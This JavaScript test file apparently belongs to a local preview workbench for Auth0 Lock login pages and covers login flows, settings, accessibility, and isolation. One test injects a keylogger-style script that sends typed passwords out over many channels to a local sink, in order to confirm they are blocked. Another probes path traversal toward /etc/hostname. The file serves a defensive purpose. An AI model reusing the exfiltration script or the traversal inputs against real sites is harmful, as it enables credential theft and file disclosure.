// What a person sees in the workbench, and that nothing leaves this machine.
import assert from 'node:assert/strict';
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import test, { after, before } from 'node:test';
import { bundle } from './bundles.mjs';
import { choose, frame, launch, loaded, open, told, until } from './workbench.mjs';

const RELEASE = '14.3.0';
const FIXTURE = new URL('../../fixtures/unready/documentation-sample-without-both.html', import.meta.url);

let browser;
let folder;
let page;
let lock;

before(async () => {
  browser = await launch();
  folder = mkdtempSync(join(tmpdir(), 'lockwright-preview-'));
  page = join(folder, 'login.html');
  lock = await bundle(RELEASE);
});
after(async () => {
  await browser?.close();
  rmSync(folder, { recursive: true, force: true });
});

/** Opens the fixture, with something more in its head. */
async function withPage(work, { head = '', options = [], ...rest } = {}) {
  const text = readFileSync(FIXTURE, 'utf8').replace(/js\/lock\/[\d.]+\//, `js/lock/${RELEASE}/`);
  writeFileSync(page, text.replace(/<\/head>/i, `${head}</head>`));
  const opened = await open(browser, page, ['--lock', lock, ...options], rest);
  try {
    await work(opened);
    assert.deepEqual(opened.complaints, []);
  } finally {
    await opened.close();
  }
}

async function logIn(tab, kind, password) {
  const login = frame(tab, kind);
  await login.locator('input[name=email], input[name=username]').first().fill('zoe@example.com');
  await login.locator('input[name=password]').fill(password);
  await login.locator('button[name=submit]').click();
  return login;
}

test('each kind of application is offered what is its own', () =>
  withPage(async ({ tab }) => {
    const seen = await loaded(tab);
    assert.deepEqual(seen['third-party'].received, ['Username-Password-Authentication', 'google-oauth2']);
    assert.equal(seen['first-party'].received.length, 5);
    assert.equal(await frame(tab, 'first-party').locator('[data-provider=github]').count(), 1);
    assert.equal(await frame(tab, 'third-party').locator('[data-provider=google-oauth2]').count(), 1);
    assert.equal(await frame(tab, 'third-party').locator('[data-provider=github]').count(), 0);
    assert.match(await tab.locator('#verdict').innerText(), /^Ready/);
    assert.match(await tab.locator('#applied').innerText(), /missing-tenant-info/);
  }));

test('the page as it is serves no third party', () =>
  withPage(async ({ tab }) => {
    await loaded(tab);
    await choose(tab, 'As it is');
    const third = await until(tab, 'third-party', ({ rows }) => rows.some(({ text, tag }) => tag === 'asked' && text.includes('/client/')), 'no request for the client');
    assert.match(third.rows[0].note, /predicted: fails/);
    assert.match(await tab.locator('#findings').innerText(), /missing-tenant-info/);
    assert.match(await tab.locator('#verdict').innerText(), /^Not ready/);
    assert.equal(await frame(tab, 'third-party').locator('[data-provider]').count(), 0);
  }));

test('logins, errors, sign-ups and password resets are answered here', () =>
  withPage(async ({ tab }) => {
    await loaded(tab);
    const third = await logIn(tab, 'third-party', 'wrong');
    await third.getByText(/wrong email or password/i).first().waitFor();
    await logIn(tab, 'third-party', 'correct horse');
    await third.getByRole('heading', { name: 'Logged in' }).waitFor();

    const first = frame(tab, 'first-party');
    await first.getByText('Sign Up', { exact: true }).first().click();
    await first.locator('input[name=email]').last().fill('new@example.com');
    await first.locator('input[name=password]').last().fill('Correct-horse-9');
    await first.locator('button[name=submit]').last().click();
    await until(tab, 'first-party', ({ requests }) => requests.some((text) => /dbconnections\/signup/.test(text)), 'no sign-up');

    await tab.getByRole('button', { name: 'Reload' }).click();
    await loaded(tab);
    await first.getByText(/remember your password/).click();
    await first.locator('input[name=email]').last().fill('new@example.com');
    await first.locator('button[name=submit]').last().click();
    await until(tab, 'first-party', ({ requests }) => requests.some((text) => /change_password/.test(text)), 'no reset');
    await first.getByText(/sent you an email/i).first().waitFor();
  }));

test('a page that leaves stays here', () =>
  withPage(async ({ tab }) => {
    await loaded(tab);
    await frame(tab, 'third-party').locator('[data-provider=google-oauth2]').click();
    await frame(tab, 'third-party').getByRole('heading', { name: 'The page goes elsewhere' }).waitFor();
    assert.match(await frame(tab, 'third-party').locator('code').innerText(), /\/authorize\?.*connection=google-oauth2/);
    await frame(tab, 'third-party').getByRole('link', { name: /Back/ }).click();
    await frame(tab, 'third-party').locator('[data-provider=google-oauth2]').waitFor();
  }));

test('nothing that is typed leaves this machine', async () => {
  const seen = [];
  const sink = createServer((request, response) => {
    seen.push(`${request.method} ${request.url}`);
    response.setHeader('Access-Control-Allow-Origin', '*').end('ok');
  });
  await new Promise((resolve) => sink.listen(0, '127.0.0.1', resolve));
  const elsewhere = `http://127.0.0.1:${sink.address().port}`;
  const head = `<script>
    addEventListener('input', function (event) {
      var value = event.target.value, url = '${elsewhere}/';
      if (value.length < 8) return;
      new Image().src = url + 'image?v=' + encodeURIComponent(value);
      fetch(url + 'get?b=' + btoa(value), { mode: 'no-cors' }).catch(function () {});
      fetch(url + 'post', { method: 'POST', body: value, mode: 'no-cors' }).catch(function () {});
      navigator.sendBeacon(url + 'beacon', value);
      var form = document.createElement('form');
      form.method = 'post'; form.action = url + 'form'; form.target = 'hidden';
      form.innerHTML = '<input name=v>'; form.firstChild.value = value;
      document.body.appendChild(form); form.submit();
      var inner = document.createElement('iframe');
      inner.src = url + 'frame?v=' + value; document.body.appendChild(inner);
      try { window.open(url + 'popup?v=' + value); } catch (error) {}
      try { new WebSocket(url.replace('http', 'ws') + 'socket?v=' + value); } catch (error) {}
      var link = document.createElement('a');
      link.href = url + 'link?v=' + value; link.ping = url + 'ping'; document.body.appendChild(link);
    });
    fetch('${elsewhere}/passes', { mode: 'no-cors' });
  </script>`;
  try {
    await withPage(async ({ tab }) => {
      await loaded(tab);
      await frame(tab, 'third-party').locator('input[type=password]').fill('my secret words');
      await until(tab, 'third-party', ({ requests }) => requests.filter((text) => text.startsWith('held back')).length >= 4, 'nothing is held back');
      await tab.waitForTimeout(300);
      assert.deepEqual([...new Set(seen)], ['GET /passes']);
      const { requests } = await told(tab, 'third-party');
      assert.ok(requests.some((text) => text.startsWith('network') && text.includes('/passes')), 'what passes is listed');
    }, { head });
  } finally {
    sink.close();
  }
});

test('the switches change the config', () =>
  withPage(async ({ tab }) => {
    await loaded(tab);
    await tab.getByLabel('Language').fill('de');
    await tab.getByLabel('Language').press('Tab');
    await until(tab, 'first-party', ({ rows }) => rows.some(({ tag, text }) => tag === 'asked' && text.endsWith(`/${RELEASE}/de.js`)), 'no dictionary');
    await tab.getByRole('combobox', { name: 'Connection', exact: true }).selectOption('github');
    const only = frame(tab, 'first-party').locator('[data-provider]');
    await until(tab, 'first-party', ({ offers }) => offers.length === 1, 'more than the connection');
    assert.equal(await only.getAttribute('data-provider'), 'github');
    await tab.getByLabel(/metadata/).fill('[1]');
    await tab.getByLabel(/metadata/).press('Tab');
    await tab.getByText('Not a JSON object').waitFor();
  }));

test('the page reads the switches', () =>
  withPage(
    async ({ tab }) => {
      await loaded(tab);
      await tab.getByLabel(/metadata/).fill('{"brand":"Ünïted"}');
      await tab.getByLabel(/metadata/).press('Tab');
      await tab.getByLabel('Prompt').selectOption('login');
      await until(tab, 'third-party', ({ console }) => console.some((text) => text.includes('Ünïted login true')), 'no metadata');
    },
    { head: `<script>var c = JSON.parse(decodeURIComponent(escape(atob('@@config@@')))); console.error((c.clientMetadata || {}).brand, c.prompt, c.isThirdPartyClient)</script>` },
  ));

test('widths and colours reach the page', () =>
  withPage(
    async ({ tab }) => {
      await loaded(tab);
      const inner = () => frame(tab, 'third-party').locator('html').evaluate(() => [innerWidth, matchMedia('(prefers-color-scheme: dark)').matches]);
      assert.deepEqual(await inner(), [1024, false]);
      await choose(tab, 'Phone');
      await choose(tab, 'Dark');
      assert.deepEqual(await inner(), [390, true]);
      const background = () => frame(tab, 'third-party').locator('html').evaluate((html) => getComputedStyle(html).backgroundColor);
      assert.equal(await background(), 'rgb(1, 2, 3)');
      await choose(tab, 'Light');
      assert.equal(await background(), 'rgb(250, 250, 250)');
    },
    { head: '<style>html { background: rgb(250, 250, 250) } @media (prefers-color-scheme: dark) { html { background: rgb(1, 2, 3) } }</style>' },
  ));

test('a change of the file is shown without asking', () =>
  withPage(async ({ tab }) => {
    await loaded(tab);
    writeFileSync(page, readFileSync(page, 'utf8').replace('<title>', '<title>Changed '));
    await tab.waitForFunction(() => document.querySelector('#third-party iframe').contentDocument?.title.startsWith('Changed'));
    rmSync(page);
    await tab.getByText(/cannot be read/).first().waitFor();
  }));

test('everything can be reached by keyboard and has a name', () =>
  withPage(async ({ tab }) => {
    await loaded(tab);
    const nameless = await tab.evaluate(() => {
      const named = (it) => it.labels?.length > 0 || it.textContent.trim() || it.title || it.getAttribute('aria-label');
      return [...document.querySelectorAll('input, select, button, iframe, summary, a')].filter((it) => !named(it)).map((it) => it.outerHTML);
    });
    assert.deepEqual(nameless, []);
    const reached = new Set();
    for (let step = 0; step < 25; step += 1) {
      await tab.keyboard.press('Tab');
      reached.add(await tab.evaluate(() => document.activeElement?.name || document.activeElement?.id || document.activeElement?.tagName));
    }
    for (const wanted of ['version', 'target', 'width', 'scheme', 'language', 'prompt', 'connection', 'metadata', 'reload']) {
      assert.ok(reached.has(wanted), `${wanted} is not reached: ${[...reached]}`);
    }
    await tab.locator('input[name=version][value=compiled]').focus();
    await tab.keyboard.press('ArrowRight');
    await tab.waitForFunction(() => document.querySelector('#verdict').textContent.startsWith('Not ready'));
  }));

test('a tenant from a file is what is offered', () =>
  withPage(
    async ({ tab }) => {
      const seen = await loaded(tab);
      assert.deepEqual(seen['third-party'].received, ['linkedin']);
      assert.deepEqual(seen['first-party'].received, ['Customers', 'linkedin']);
    },
    { options: ['--tenant', tenantFile()] },
  ));

test('a tenant from configuration as code is what is offered', () =>
  withPage(
    async ({ tab }) => {
      const seen = await loaded(tab);
      assert.deepEqual(seen['third-party'].received, ['Customers']);
      assert.deepEqual(seen['first-party'].received.sort(), ['Customers', 'github']);
    },
    { options: ['--tenant', tenantFolder()] },
  ));

/** As auth0-deploy-cli has it. */
function tenantFolder() {
  const of = join(folder, 'tenant');
  const put = (name, value) => {
    mkdirSync(dirname(join(of, name)), { recursive: true });
    writeFileSync(join(of, name), JSON.stringify(value));
  };
  put('database-connections/Customers/database.json', { name: 'Customers', strategy: 'auth0', is_domain_connection: true });
  put('connections/github.json', { name: 'github', strategy: 'github' });
  return of;
}

function tenantFile() {
  const path = join(folder, 'connections.json');
  const entry = (name, strategy, isDomain) => ({ name, strategy, is_domain_connection: isDomain });
  writeFileSync(path, JSON.stringify({ version: 1, connections: [entry('Customers', 'auth0', false), entry('linkedin', 'linkedin', true)] }));
  return path;
}

test('other origins and outer files get nothing', () =>
  withPage(async ({ url, context }) => {
    copyFileSync(page, join(folder, 'beside.html'));
    symlinkSync('/etc/hostname', join(folder, 'outside.txt'));
    const evil = createServer((request, response) => response.setHeader('Content-Type', 'text/html').end('<!doctype html><body>'));
    await new Promise((resolve) => evil.listen(0, '127.0.0.1', resolve));
    try {
      const other = await context.newPage();
      await other.goto(`http://127.0.0.1:${evil.address().port}/`);
      const attempts = await other.evaluate(async (target) => {
        const attempt = (promise) => promise.then((it) => `got ${it.status ?? it}`, () => 'refused');
        const element = (name, attributes) => new Promise((resolve, reject) => {
          const made = Object.assign(document.createElement(name), attributes, { onload: () => resolve('loaded'), onerror: () => reject(new Error()) });
          document.body.append(made);
        });
        return {
          fetch: await attempt(fetch(`${target}tenant.json`)),
          'no-cors': await attempt(fetch(`${target}tenant.json`, { mode: 'no-cors' })),
          script: await attempt(element('script', { src: `${target}reporter.js` })),
        };
      }, url);
      assert.deepEqual(attempts, { fetch: 'refused', 'no-cors': 'refused', script: 'refused' });
      await other.evaluate((target) => document.body.append(Object.assign(document.createElement('iframe'), { src: target })), url);
      await other.waitForTimeout(500);
      const framed = other.frames().find((it) => it !== other.mainFrame());
      assert.ok(!(await framed.evaluate(() => document.body?.innerText ?? '').catch(() => '')).includes('Lockwright preview'));
    } finally {
      evil.close();
    }
    const base = `${url}frame/first-party/cloud/as-is/-/1/`;
    const status = async (path) => (await fetch(base + path)).status;
    assert.equal(await status('beside.html'), 200);
    assert.equal(await status(''), 403, 'the page is for the worker only');
    for (const path of ['outside.txt', '..%2f..%2fetc%2fhostname', 'connections.json', '%2e%2e/x.css']) {
      assert.equal(await status(path), 404, path);
    }
  }));
